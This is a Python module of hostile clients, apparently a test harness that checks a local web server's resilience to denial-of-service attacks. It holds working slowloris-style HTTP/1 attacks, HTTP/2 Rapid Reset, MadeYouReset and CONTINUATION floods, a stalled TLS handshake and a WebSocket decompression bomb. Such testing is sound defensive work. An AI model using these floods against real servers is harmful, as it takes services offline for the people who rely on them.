"""Hostile clients, one kind for each function: python attacks.py NAME PORT TLS COUNT SECONDS.

Each runs in a process of its own, on raw sockets, until its time is over. What the server answers is not
read, unless the attack needs it. A connection that the server ends is opened again.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import os
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable

import hpack
from attack import Attack
from proof_server import client_context
from tls_attacks import TLS_FLOODS
from token_clients import HANDSHAKE, frame

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def h2_frame(kind: int, flags: int, stream: int, payload: bytes = b'') -> bytes:
    return struct.pack('!I', len(payload))[1:] + struct.pack('!BBI', kind, flags, stream) + payload


def get(path: str) -> bytes:
    """Return a header block that needs no dynamic table."""
    fields = [(':method', 'GET'), (':scheme', 'http'), (':authority', 'test'), (':path', path)]
    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))


def request(stream: int, path: str = '/quick/x', flags: int = END_STREAM | END_HEADERS) -> bytes:
    return h2_frame(HEADERS, flags, stream, get(path))


START = PREFACE + h2_frame(SETTINGS, 0, 0)


# -- HTTP/1 ------------------------------------------------------------------------------------


async def byte_a_second(attack: Attack) -> None:
    """Send a byte of each head a second."""

    async def one() -> None:
        async with attack.connection() as (reader, writer):
            for byte in b'GET /quick/x HTTP/1.1\r\nHost: test\r\nX-Long: ' + b'x' * 10000:
                writer.write(bytes([byte]))
                await writer.drain()
                if reader.at_eof():
                    return
                await asyncio.sleep(1)

    await attack.many(one)


async def never_read(attack: Attack) -> None:
    """Ask for a megabyte and read nothing of it."""
    await attack.many(lambda: attack.hold(b'GET /large/1000000 HTTP/1.1\r\nHost: test\r\n\r\n'))


async def no_body(attack: Attack) -> None:
    """Announce a body and never send it."""
    head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 100000\r\n\r\n'
    await attack.many(lambda: attack.hold(head))


async def pipeline(attack: Attack) -> None:
    """Send requests without end and read no response."""
    requests = b'GET /quick/x HTTP/1.1\r\nHost: test\r\n\r\n' * 500
    await attack.many(lambda: attack.flood(b'', requests, http2=False, read=False))


async def tiny_chunks(attack: Attack) -> None:
    """Upload in chunks of a byte, as fast as the server takes them."""
    head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nTransfer-Encoding: chunked\r\n\r\n'
    await attack.many(lambda: attack.flood(head, b'1\r\nx\r\n' * 10_000, http2=False))


async def connect_and_reset(attack: Attack) -> None:
    """Reset each connection as soon as it is made, every second one within a request."""

    async def one() -> None:
        reset = struct.pack('ii', 1, 0)
        for n in range(1_000_000):
            if not attack.running:
                return
            with socket.create_connection(('127.0.0.1', attack.port), 5) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
                if n % 2:
                    sock.sendall(b'GET /quick/x HT')
            await asyncio.sleep(0)

    await attack.many(one)


async def stay(attack: Attack, data: bytes, http2: bool = False, tls: bool | None = None) -> None:
    """Hold connections that send `data` and no more; open them again when they are closed."""

    async def one() -> None:
        context = client_context(http2) if (attack.tls if tls is None else tls) else None
        name = 'localhost' if context else None
        opening = asyncio.open_connection('127.0.0.1', attack.port, ssl=context, server_hostname=name)
        reader, writer = await asyncio.wait_for(opening, 10)
        try:
            writer.write(data)
            while await reader.read(65536):
                pass
        finally:
            writer.transport.abort()

    await attack.many(one)


async def silent(attack: Attack) -> None:
    """Hold connections that send nothing."""
    await stay(attack, b'', tls=False)


async def half_head(attack: Attack) -> None:
    """Send half a head."""
    await stay(attack, b'GET /quick/x HTTP/1.1\r\nHost: te')


async def half_body(attack: Attack) -> None:
    """Send half a body."""
    await stay(attack, b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 2000\r\n\r\n' + b'x' * 1000)


async def kept_alive(attack: Attack) -> None:
    """Keep connections after one request."""
    await stay(attack, b'GET /quick/x HTTP/1.1\r\nHost: test\r\n\r\n')


async def prefaces(attack: Attack) -> None:
    """Open HTTP/2 connections and ask for nothing."""
    await stay(attack, START, http2=True)


async def tls_stall(attack: Attack) -> None:
    """Stop after the first bytes of a ClientHello."""
    await stay(attack, b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', tls=False)


async def drip_uploads(attack: Attack) -> None:
    """Upload a megabyte: 100,000 bytes at once, then a byte a second."""

    async def one() -> None:
        async with attack.connection() as (reader, writer):
            head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 1000000\r\n\r\n'
            writer.write(head + b'x' * 100_000)
            while attack.running and not reader.at_eof():
                writer.write(b'x')
                await asyncio.wait_for(writer.drain(), 60)
                await asyncio.sleep(1)

    await attack.many(one)


async def drip_downloads(attack: Attack) -> None:
    """Read 20 MB, a byte a second."""

    async def one() -> None:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)
        sock.setblocking(False)
        with sock:
            loop = asyncio.get_running_loop()
            await asyncio.wait_for(loop.sock_connect(sock, ('127.0.0.1', attack.port)), 10)
            await loop.sock_sendall(sock, b'GET /large/20000000 HTTP/1.1\r\nHost: test\r\n\r\n')
            while await asyncio.wait_for(loop.sock_recv(sock, 1), 60) and attack.running:
                await asyncio.wait([asyncio.create_task(asyncio.sleep(1))])

    await attack.many(one)


async def together(attack: Attack, data: bytes, http2: bool = False, first: bytes = b'') -> None:
    """Connect, send `first`, and then `data` on all connections at the same moment, every half second."""
    begin = time.monotonic()
    pause = min(0.5, (attack.until - begin) / 2)

    async def one() -> None:
        async with attack.connection(http2) as (reader, writer):
            writer.write(first)
            while attack.running and not reader.at_eof():
                now = time.monotonic()
                await asyncio.sleep(pause - (now - begin) % pause)
                writer.write(data)
                await asyncio.wait_for(writer.drain(), 60)
                reader._buffer.clear()  # type: ignore[attr-defined]

    await attack.many(one)


async def bursts(attack: Attack) -> None:
    """Send ten pipelined requests on each kept connection at the same moment."""
    await together(attack, b'GET /quick/x HTTP/1.1\r\nHost: test\r\n\r\n' * 10)


async def slow_requests(attack: Attack) -> None:
    """Ask all at once for what takes the application 5 ms."""
    await together(attack, b'GET /block/x HTTP/1.1\r\nHost: test\r\n\r\n')


async def uploads(attack: Attack) -> None:
    """Upload 100 KB each at the same moment."""
    head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 100000\r\n\r\n'
    await together(attack, head + b'x' * 100_000)


async def expectations(attack: Attack) -> None:
    """Ask for 100 Continue at the same moment, and send no body."""
    head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 1000\r\nExpect: 100-continue\r\n\r\n'
    await attack.many(lambda: attack.hold(head))


# -- HTTP/2 ------------------------------------------------------------------------------------


async def by_stream(attack: Attack, make: Callable[[int], bytes], begin: bytes = START) -> None:
    """Send what `make` gives for each stream number, 200 at a time."""

    async def one() -> None:
        async with attack.connection(http2=True) as (reader, writer):
            writer.write(begin)
            number = 1
            while attack.running and not reader.at_eof():
                writer.write(b''.join(make(stream) for stream in range(number, number + 400, 2)))
                number += 400
                await writer.drain()
                reader._buffer.clear()  # type: ignore[attr-defined]
                await asyncio.sleep(0)

    await attack.many(one)


async def unread_streams(attack: Attack) -> None:
    """Ask for a megabyte on one stream of each connection, with wide windows, and read nothing."""
    wide = PREFACE + h2_frame(SETTINGS, 0, 0, struct.pack('!HI', 4, 2**31 - 1))
    wide += h2_frame(WINDOW_UPDATE, 0, 0, struct.pack('!I', 2**30))
    await attack.many(lambda: attack.hold(wide + request(1, '/large/1000000'), http2=True))


async def rapid_reset(attack: Attack) -> None:
    """Reset each request at once (CVE-2023-44487)."""
    reset = struct.pack('!I', 8)
    await by_stream(attack, lambda stream: request(stream) + h2_frame(RST_STREAM, 0, stream, reset))


async def made_you_reset(attack: Attack) -> None:
    """Make the server reset each request: a window update of nothing (CVE-2025-8671)."""
    nothing = struct.pack('!I', 0)
    await by_stream(attack, lambda stream: request(stream) + h2_frame(WINDOW_UPDATE, 0, stream, nothing))


async def continuation(attack: Attack) -> None:
    """Send a header block that does not end."""
    begin = START + request(1, flags=0)
    await attack.many(lambda: attack.flood(begin, h2_frame(CONTINUATION, 0, 1, b'\x00\x01a\x01b' * 20)))


async def pings(attack: Attack) -> None:
    await attack.many(lambda: attack.flood(START, h2_frame(PING, 0, 0, b'12345678') * 200, read=False))


async def settings(attack: Attack) -> None:
    await attack.many(lambda: attack.flood(START, h2_frame(SETTINGS, 0, 0) * 200, read=False))


async def tiny_frames(attack: Attack) -> None:
    """Upload in DATA frames of a byte, as fast as the windows allow."""
    fields = [(':method', 'POST'), (':scheme', 'http'), (':authority', 'test'), (':path', '/echo/x')]
    block = bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))
    begin = START + h2_frame(HEADERS, END_HEADERS, 1, block)
    await attack.many(lambda: attack.flood(begin, h2_frame(DATA, 0, 1, b'x') * 5000))


async def windows(attack: Attack) -> None:
    """Ask for a megabyte with a window of nothing, and open it by a byte at times."""
    begin = PREFACE + h2_frame(SETTINGS, 0, 0, struct.pack('!HI', 4, 0))
    begin += b''.join(request(stream, '/large/1000000') for stream in range(1, 201, 2))
    byte = struct.pack('!I', 1)

    async def one() -> None:
        async with attack.connection(http2=True) as (reader, writer):
            writer.write(begin)
            while attack.running and not reader.at_eof():
                writer.write(b''.join(h2_frame(WINDOW_UPDATE, 0, n, byte) for n in range(1, 201, 2)))
                await writer.drain()
                reader._buffer.clear()  # type: ignore[attr-defined]
                await asyncio.sleep(0.2)

    await attack.many(one)


# -- WebSocket ---------------------------------------------------------------------------------

DEFLATE = HANDSHAKE.replace(
    b'\r\n\r\n', b'\r\nSec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n\r\n'
)


SLOW = HANDSHAKE.replace(b'/ws ', b'/block ')


def bomb(size: int = 64 * 1024 * 1024) -> bytes:
    """Return a compressed message that would be 64 MiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(size)) + packer.flush(zlib.Z_SYNC_FLUSH)
    return frame(packed[:-4], b'\0\0\0\0', 0xC1)


async def websocket(
    attack: Attack, handshake: bytes, data: bytes, first: bytes = b'', read: bool = False
) -> None:
    """Open WebSockets, send `first`, then `data` without end."""

    async def one() -> None:
        async with attack.connection() as (reader, writer):
            writer.write(handshake)
            await asyncio.wait_for(reader.readuntil(b'\r\n\r\n'), 10)
            writer.write(first)
            while attack.running and not reader.at_eof():
                writer.write(data)
                await writer.drain()
                if read:
                    reader._buffer.clear()  # type: ignore[attr-defined]
                    reader._maybe_resume_transport()  # type: ignore[attr-defined]
                await asyncio.sleep(0)

    await attack.many(one)


async def ws_fragments(attack: Attack) -> None:
    """Send a message in fragments of one byte that does not end."""
    fragment = frame(b'a', b'abcd', 0x00)
    await websocket(attack, HANDSHAKE, fragment * 500, frame(b'a', b'abcd', 0x01))


async def ws_bomb(attack: Attack) -> None:
    """Compressed messages of 64 KiB that would be 64 MiB."""
    await websocket(attack, DEFLATE, bomb())


async def upgrades(attack: Attack) -> None:
    """Open WebSockets, each with a message, and read nothing."""
    await attack.many(lambda: attack.hold(HANDSHAKE + frame(b'x' * 100, b'abcd', 0x82)))


async def ws_pings(attack: Attack) -> None:
    await websocket(attack, HANDSHAKE, frame(b'12345678', b'abcd', 0x89) * 500)


async def ws_pongs(attack: Attack) -> None:
    """Answer pings that the server has not sent."""
    await websocket(attack, HANDSHAKE, frame(b'12345678', b'abcd', 0x8A) * 500)


async def ws_empty(attack: Attack) -> None:
    """Send empty messages, and read the echoes."""
    await websocket(attack, HANDSHAKE, frame(b'', b'abcd', 0x81) * 5000, read=True)


async def ws_deflated(attack: Attack) -> None:
    """Send empty messages that are compressed, and read the echoes."""
    await websocket(attack, DEFLATE, frame(b'\0', b'abcd', 0xC1) * 5000, read=True)


async def ws_closed(attack: Attack) -> None:
    """Send a close frame, and further frames behind it."""
    await websocket(attack, HANDSHAKE, frame(b'\x03\xe8', b'abcd', 0x88) * 5000)


async def ws_slow(attack: Attack) -> None:
    """Send small messages to an application that takes 5 ms for each."""
    await websocket(attack, SLOW, frame(b'x' * 10, b'abcd', 0x82) * 500, read=True)


async def ws_unread(attack: Attack) -> None:
    """Send messages of 1 MiB, and read no echo."""
    await websocket(attack, HANDSHAKE, frame(bytes(1 << 20), b'abcd', 0x82))


STAYING = (silent, half_head, half_body, kept_alive, prefaces, tls_stall)
"""Attacks that are tried on a server with few descriptors."""
HTTP1 = (
    byte_a_second, never_read, no_body, pipeline, connect_and_reset, silent, half_head, half_body, kept_alive,
    drip_uploads, drip_downloads, tiny_chunks, bursts, slow_requests, uploads, expectations,
)  # fmt: skip
TLS_ONLY = (tls_stall, *TLS_FLOODS)
HTTP2 = (
    prefaces,
    unread_streams,
    rapid_reset,
    made_you_reset,
    continuation,
    pings,
    settings,
    windows,
    tiny_frames,
)
WEBSOCKET = (
    upgrades, ws_fragments, ws_bomb, ws_pings, ws_pongs, ws_empty, ws_deflated, ws_closed, ws_slow, ws_unread,
)  # fmt: skip
ATTACKS = {function.__name__: function for function in (*HTTP1, *TLS_ONLY, *HTTP2, *WEBSOCKET)}
FLOODS = {
    'pipeline',
    'connect_and_reset',
    'tiny_chunks',
    *(each.__name__ for each in (*TLS_FLOODS, *HTTP2[2:], *WEBSOCKET[1:])),
}
"""Attacks of a few connections that send as fast as they can; the others are of many that do not."""


async def main(name: str, port: int, tls: bool, count: int, seconds: float) -> None:
    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(ATTACKS[name](Attack(port, tls, count, seconds)), seconds + 5)


if __name__ == '__main__':
    logging.getLogger('asyncio').setLevel(logging.CRITICAL)  # writes to connections that the server has ended
    asyncio.run(
        main(sys.argv[1], int(sys.argv[2]), sys.argv[3] == 'tls', int(sys.argv[4]), float(sys.argv[5]))
    )
    sys.stdout.flush()
    os._exit(0)  # thousands of connections are left to the system
